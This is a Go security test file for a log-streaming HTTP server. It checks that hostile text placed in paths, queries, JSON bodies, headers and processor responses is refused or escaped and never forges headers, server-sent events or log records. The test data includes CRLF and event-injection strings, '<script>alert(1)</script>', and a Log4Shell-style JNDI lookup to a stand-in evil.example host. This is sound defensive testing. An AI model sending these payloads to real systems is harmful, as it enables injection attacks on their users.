//go:build security && linux

package security

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"pipeproc/livestream/ssetest"
)

// hostile are texts that end a line, a header, an event, a string or a record where they are not kept from it.
var hostile = []string{
	"\r\nX-Injected: 1\r\n\r\n", "\nX-Injected: 1", "\rX-Injected: 1", "\r\n", "\n", "\r", "\n\n", "\r\r", "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
	"\ndata: injected\n\n", "\nevent: injected\ndata: {}\n\n", "\nid: injected\n\n", "\nretry: 1\n", "data: injected", "event: injected", "id: injected", ": injected", ":",
	"\x00", "a\x00b", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\t", "\u0085", "\u2028", "\u2029", "a\u2028X-Injected: 1", "\ufeff", "\ufeffdata: injected",
	"\u202e\u202d", "\u200b", "\ufffd", "\ufffe", "\U0010ffff", "\"", "\\", "\\\"", "\",\"level\":\"ERROR\",\"msg\":\"injected\"", "'", "`", "<script>alert(1)</script>", "</script>", "<!--", "&amp;", "%0d%0aX-Injected:1",
	"%s%n%d%!", "${jndi:ldap://evil.example/a}", "{{7*7}}", "\" level=ERROR msg=injected x=\"", "msg=injected", "time=2000-01-01T00:00:00.000Z level=INFO msg=injected",
}

// broken are bytes that are not UTF-8.
var broken = []string{"\xff", "\xc3", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "a\x80b", "\xfe\xff", "\xef\xbb"}

// quoted is text as a JSON string.
func quoted(text string) string {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	_ = e.Encode(text)
	return strings.TrimSuffix(b.String(), "\n")
}

// escaped is text as a JSON string of nothing but escapes, where it is UTF-8.
func escaped(text string) string {
	var b strings.Builder
	for _, c := range text {
		if c > 0xffff {
			b.WriteRune(c)
			continue
		}
		fmt.Fprintf(&b, "\\u%04x", c)
	}
	return `"` + b.String() + `"`
}

// clean holds that nothing of what was sent became a header, and that what is told of it is JSON.
func (a *answer) clean() *answer {
	a.t.Helper()
	for name, values := range a.header {
		for _, value := range values {
			if strings.Contains(name, "Injected") || strings.ContainsFunc(value, func(c rune) bool { return c < ' ' || c == 0x7f }) {
				a.t.Errorf("%.200q: header %q: %q", a.what, name, value)
			}
		}
	}
	if !utf8.ValidString(a.body) || strings.Contains(strings.TrimSuffix(a.body, "\n"), "\n") || !json.Valid([]byte(a.body)) {
		a.t.Errorf("%.200q: %.300q", a.what, a.body)
	}
	return a
}

// oneLineEach holds that the log is lines of records that the server wrote, and of nothing else.
func (s *server) oneLineEach(asJSON bool) {
	s.t.Helper()
	text := s.log.String()
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	for i, line := range lines {
		if i == 0 {
			continue // may have lost its beginning
		}
		ok := textRecord.MatchString(line) && (strings.Count(line, "\"")-strings.Count(line, `\"`))%2 == 0
		if asJSON {
			var record struct {
				Time       time.Time
				Level, Msg string
			}
			ok = json.Unmarshal([]byte(line), &record) == nil && slices.Contains(levels, record.Level) && record.Msg != "" && record.Msg != "injected" &&
				strings.Count(line, `"level":`) == 1 && strings.HasPrefix(line, `{"time":"`)
		}
		if !ok || !utf8.ValidString(line) || strings.ContainsFunc(line, func(c rune) bool { return unicode.IsControl(c) || c == '\u2028' || c == '\u2029' }) {
			s.t.Errorf("the log: %.600q", line)
			return
		}
	}
	if len(lines) < 50 {
		s.t.Errorf("the log has but %d lines", len(lines))
	}
}

var (
	textRecord = regexp.MustCompile(`^time=\S+Z level=(DEBUG|INFO|WARN|ERROR) msg=("[^"]+"|\w+) `)
	levels     = []string{"DEBUG", "INFO", "WARN", "ERROR"}
)

// TestControlCharacters: no text gets out of the place that it is put in: a header, a line of the log, a problem, an event. What
// cannot be a name or a header's value is refused, and changes nothing.
func TestControlCharacters(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			s := launch(t, "--log-level", "debug", "--log-format", format, "--workers", "0")
			s.prepare()
			s.under(bounds{memory: 96, goroutines: 200}, func() {
				for _, text := range slices.Concat(hostile, broken) {
					s.textInPlaces(text)
					s.oneLineEach(format == "json")
				}
			})
		})
	}
}

// textInPlaces puts the text where texts can be put, where it is to be refused.
func (s *server) textInPlaces(text string) {
	s.t.Helper()
	inURL := url.PathEscape(text)
	for _, at := range []string{"GET /v1/topics/%s", "GET /v1/topics/%s/logs", "GET /v1/topics/t/logs/%s", "GET /v1/procs/%s", "DELETE /v1/procs/%s", "POST /v1/procs/%s/ack",
		"GET /v1/system-procs/%s", "DELETE /v1/live-procs/%s", "GET /v1/live-procs/%s/changes", "GET /v1/topics/%s/live?mode=all", "GET /%s", "GET /v1/%s"} {
		method, path, _ := strings.Cut(at, " ")
		s.refuses(method, fmt.Sprintf(path, inURL), "")
	}
	inQuery := url.QueryEscape(text)
	for _, at := range []string{"/v1/topics?after=%s", "/v1/topics?limit=%s", "/v1/topics?%s=1", "/v1/topics/t/logs?start=%s", "/v1/topics/t/logs?end=%s", "/v1/topics/t/logs?direction=%s",
		"/v1/topics/t/logs?exclusive=%s", "/v1/procs?topic=%s", "/v1/procs?kind=%s", "/v1/tail?topic=%s", "/v1/tail?topic=t&start=%s", "/v1/tail?topic=t&lastEventId=%s",
		"/v1/topics/t/live?mode=%s", "/v1/topics/t/live?mode=all&lastEventId=%s", "/v1/live-procs/liveproc-x/changes?lastEventId=%s", "/v1/tail?topic=t&ticket=%s"} {
		s.refuses("GET", fmt.Sprintf(at, inQuery), "")
	}
	strs := []string{quoted(text), `"` + text + `"`} // as text and, mostly, as no JSON at all
	if utf8.ValidString(text) {
		strs[1] = escaped(text)
	}
	for _, str := range strs {
		for _, at := range []string{
			`/v1/commit {"topic":%s,"body":{}}`, `/v1/commit [{"topic":"t","body":{}},{"topic":%s,"body":{}}]`, `/v1/commit {"topic":"t","body":{},%s:1}`, `/v1/commit {"topic":"t","body":%s}`,
			`/v1/procs/new/claim {"topic":%s}`, `/v1/procs/new/claim {"topic":"t","offset":%s}`, `/v1/procs/new/claim {"topic":"t","onMaxReclaimsReached":%s}`,
			`/v1/procs/p/ack {"token":%s}`, `/v1/procs/p/reclaim {"token":%s}`, `/v1/procs/p/extend {"token":%s}`, `/v1/procs/p/seek {"offset":%s}`, `/v1/claims {"procs":[{"name":%s,"topic":"t"}]}`,
			`/v1/wait {"procs":[%s]}`, `/v1/wait {"timeout":%s}`, `/v1/live-procs {"topic":%s,"mode":"all"}`, `/v1/live-procs {"topic":"t","mode":%s}`, `/v1/stream-tickets {"path":%s}`,
			`/v1/system-procs {"name":%s,"from":"t","processor":"http://processor.example/"}`, `/v1/system-procs {"name":"n","from":%s,"processor":"http://processor.example/"}`,
			`/v1/system-procs {"name":"n","from":["t"],"to":[%s],"processor":"http://processor.example/"}`, `/v1/system-procs {"name":"n","from":"t","processor":%s}`,
			`/v1/system-procs {"name":"n","from":"t","processor":{"url":"http://processor.example/","headers":{%s:"v"}}}`,
			`/v1/system-procs {"name":"n","from":"t","processor":{"url":"http://processor.example/"},"secret":%s}`, `/v1/system-procs/s/rotate-secret {"secret":%s}`,
		} {
			path, body, _ := strings.Cut(at, " ")
			s.refuses("POST", path, fmt.Sprintf(body, str))
		}
		if strings.ContainsFunc(text, func(c rune) bool { return c < ' ' && c != '\t' || c == 0x7f }) {
			for _, at := range []string{`{"name":"n","from":"t","processor":"http://processor.example/%s"}`, `{"name":"n","from":"t","processor":"http://%s/"}`} {
				s.refuses("POST", "/v1/system-procs", fmt.Sprintf(at, strings.Trim(str, `"`)))
			}
			s.refuses("POST", "/v1/system-procs", fmt.Sprintf(`{"name":"n","from":"t","processor":{"url":"http://processor.example/","headers":{"X-A":%s}}}`, str))
		}
	}
	for _, header := range []string{"Last-Event-ID: %s", "Idempotency-Key: %s", "Content-Type: %s", "Content-Encoding: %s", "Expect: %s"} {
		path := "POST /v1/topics/t/logs"
		if header == "Last-Event-ID: %s" {
			path = "GET /v1/tail?topic=t"
		}
		// Whatever ends a line makes headers of its own, which is no matter of ours; the rest is a value.
		value := strings.Trim(strings.NewReplacer("\r", " ", "\n", " ").Replace(text), " \t")
		if value == "" || header == "Idempotency-Key: %s" && goodKey.MatchString(value) {
			continue
		}
		method, target, _ := strings.Cut(path, " ")
		a := s.raw(method, target, strings.TrimSuffix(header, ": %s"), value)
		if !a.noHTTP() && a.status != http.StatusExpectationFailed { // which is net/http's own as well
			if a.status < 400 || a.status >= 500 || a.problem() == "" {
				s.t.Errorf("%s: %q: %d %.300s", header, value, a.status, a.body)
			}
			a.clean()
		}
	}
	for _, header := range []string{"X-Request-Id", "Traceparent", "Tracestate", "User-Agent", "Referer", "X-Forwarded-For", "Accept", "Origin", "Cookie"} {
		value := strings.NewReplacer("\r", " ", "\n", " ").Replace(text)
		a := s.raw("GET", "/v1/topics", header, value)
		if a.noHTTP() {
			continue
		}
		a.is(http.StatusOK).clean()
		if id := a.header.Get("X-Request-Id"); !goodID.MatchString(id) || header == "X-Request-Id" && id != value && strings.Contains(id, "njected") {
			s.t.Errorf("%s: %q makes the request's id %q", header, value, id)
		}
	}
}

var (
	goodKey = regexp.MustCompile(`^[!-~]{1,255}$`)
	goodID  = regexp.MustCompile(`^[A-Za-z0-9._:/+=@~-]{1,128}$`)
)

// refuses holds that a request is refused, by a problem with nothing else in it than is told.
func (s *server) refuses(method, path, body string) {
	s.t.Helper()
	a := s.call(method, path, body, "Accept", "*/*")
	if a.status < 400 || a.status >= 500 || a.problem() == "" {
		s.t.Errorf("%s %q %q: %d %.300s", method, path, body, a.status, a.body)
		return
	}
	a.clean()
}

// TestTextsInBodies: bodies are anybody's, so whatever is in them comes back as it is: in pages, lines, and events of both kinds of
// streams, which a parser that allows nothing reads.
func TestTextsInBodies(t *testing.T) {
	t.Parallel()
	s := launch(t, "--log-level", "debug")
	before := s.state("bodies")
	var want []string
	for _, text := range hostile {
		for _, str := range []string{quoted(text), escaped(text)} {
			want = append(want, `{"text":`+str+`}`, `{`+str+`:[`+str+`]}`, `[`+str+`]`)
		}
	}
	want = append(want, `{"a":"\ud800","\udc00":[]}`, `["data: x","event: y","id: z"]`, "{\"\u2028\":\"\u2029\"}", `{"n":1e400,"n":-0,"m":12345678901234567890}`)
	for i, body := range want {
		// White space between tokens is not kept, be it lines that would end an event.
		spaced := strings.NewReplacer("{\"", "{\r\n\r\n\"", "[\"", "\n\n[\r\r\"").Replace(body)
		if strings.Contains(body, `\"`) || i%2 == 0 {
			spaced = "\r\n" + body + "\n\n"
		}
		s.call("POST", "/v1/topics/bodies/logs", spaced).is(http.StatusCreated)
	}
	for _, text := range broken {
		for _, body := range []string{`{"a":"` + text + `"}`, `{"` + text + `":1}`, `["` + text + `"]`, text + `{}`, `{}` + text} {
			s.refuses("POST", "/v1/topics/bodies/logs", body)
		}
	}
	for _, text := range []string{"\ufeff{}", "{}\u2028", "{\"a\":\"\n\"}", "{\"a\":\"\x00\"}", "{\"a\":\"\x1f\"}", "{\"\t\":1}", "{}\x00", "{} {}", "{}\n\ndata: {}"} {
		s.refuses("POST", "/v1/topics/bodies/logs", text)
	}
	var page struct {
		Logs []struct{ Body json.RawMessage }
	}
	s.get("/v1/topics/bodies/logs?limit=10000").is(http.StatusOK).into(&page)
	lines := s.get("/v1/topics/bodies/logs", "Accept", "application/x-ndjson").is(http.StatusOK).body
	if len(page.Logs) != len(want) || strings.Count(lines, "\n") != len(want) {
		t.Fatalf("%d logs in the page, %d lines, want %d", len(page.Logs), strings.Count(lines, "\n"), len(want))
	}
	tail := s.open("/v1/tail?topic=bodies&start=earliest")
	defer tail.Body.Close()
	live := s.open("/v1/topics/bodies/live?mode=all&count=10000")
	defer live.Body.Close()
	read, events := ssetest.NewReader(tail.Body), ssetest.NewReader(live.Body)
	next := func(r *ssetest.Reader, kind string, v any) {
		t.Helper()
		e, err := r.Event()
		if err != nil || e.Type != kind {
			t.Fatalf("%+v %v, want %s", e, err, kind)
		}
		if err := json.Unmarshal([]byte(e.Data), v); err != nil {
			t.Fatal(err)
		}
	}
	var liveProc struct{ Name string }
	next(events, "liveproc", &liveProc)
	var claimed struct {
		Logs []struct{ Body json.RawMessage }
	}
	next(events, "logs", &claimed)
	if len(claimed.Logs) != len(want) {
		t.Fatalf("%d logs in the event, want %d", len(claimed.Logs), len(want))
	}
	for i, line := range slices.Collect(strings.Lines(lines)) {
		var log struct{ Body json.RawMessage }
		if err := json.Unmarshal([]byte(line), &log); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		var event struct{ Body json.RawMessage }
		next(read, "log", &event)
		for where, got := range map[string]json.RawMessage{"page": page.Logs[i].Body, "lines": log.Body, "tail": event.Body, "liveProc": claimed.Logs[i].Body} {
			if string(got) != want[i] {
				t.Errorf("%s: %q, want %q", where, got, want[i])
			}
		}
	}
	s.call("DELETE", "/v1/live-procs/"+liveProc.Name, "").is(http.StatusOK)
	s.oneLineEach(false)
	s.unchanged(before, "bodies")
}

// TestTextsOfProcessors: what a processor answers gets no further than its proc's lastError, and one line of the log.
func TestTextsOfProcessors(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"text", "json"} {
		t.Run(format, func(t *testing.T) {
			t.Parallel()
			var got [][2]string // headers that were sent
			asked := make(chan http.Header, 64)
			answers := make(chan func(http.ResponseWriter), 64)
			processor := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				_, _ = io.Copy(io.Discard, r.Body)
				asked <- r.Header.Clone()
				(<-answers)(w)
			}))
			defer processor.Close()
			s := launch(t, "--log-level", "debug", "--log-format", format)
			s.call("POST", "/v1/topics/in/logs", "{}").is(http.StatusCreated)
			before := s.state("in", "out")
			headers := map[string]string{"X-A": "data: x\tevent: y", "X-B": "\u2028X-Injected: 1", "X-C": "\u0085\u00a0\ufeff"}
			sent, _ := json.Marshal(headers)
			for i, text := range slices.Concat(hostile, broken) {
				name := "n" + strconv.Itoa(i)
				var answer func(http.ResponseWriter)
				switch i % 4 {
				case 0:
					answer = func(w http.ResponseWriter) {
						w.Header()["X-Reason"], w.Header()["Content-Type"] = []string{text}, []string{text}
						http.Error(w, text, http.StatusTeapot)
					}
				case 1:
					answer = func(w http.ResponseWriter) { fmt.Fprintf(w, `["%s"]`, text) }
				case 2: // which has no end otherwise
					answer = func(w http.ResponseWriter) {
						conn, _, err := http.NewResponseController(w).Hijack()
						if err != nil {
							return
						}
						fmt.Fprintf(conn, "HTTP/1.1 500 %s\r\nContent-Type: %s\r\nRetry-After: %s\r\n\r\n%s", text, text, text, text)
						conn.Close()
					}
				case 3:
					answer = func(w http.ResponseWriter) {
						w.Header().Set("Content-Type", "application/vnd.pipeproc.commit+json")
						fmt.Fprintf(w, `[{"topic":%s,"body":{}}]`, quoted(text))
					}
				}
				answers <- answer
				s.call("POST", "/v1/system-procs", fmt.Sprintf(`{"name":"%s","from":"in","to":"out","maxReclaims":1,"processor":{"url":"%s/","headers":%s}}`,
					name, processor.URL, sent)).is(http.StatusCreated)
				for _, header := range []http.Header{<-asked} {
					for name, value := range headers {
						if header.Get(name) != value || header.Get("X-Injected") != "" {
							got = append(got, [2]string{name, header.Get(name)})
						}
					}
				}
				var proc struct{ Status, LastError string }
				s.eventually("the proc is disabled", func() bool {
					s.get("/v1/procs/" + name).is(http.StatusOK).clean().into(&proc)
					return proc.Status == "disabled"
				})
				if proc.LastError == "" || len(proc.LastError) > 300 || strings.ContainsFunc(proc.LastError, func(c rune) bool { return unicode.IsControl(c) || c == '\u2028' || c == '\u2029' }) {
					t.Errorf("%q makes lastError %q", text, proc.LastError)
				}
				s.call("DELETE", "/v1/system-procs/"+name, "").is(http.StatusOK)
			}
			if got != nil {
				t.Errorf("headers were changed: %q", got)
			}
			s.oneLineEach(format == "json")
			s.unchanged(before, "in", "out")
		})
	}
}
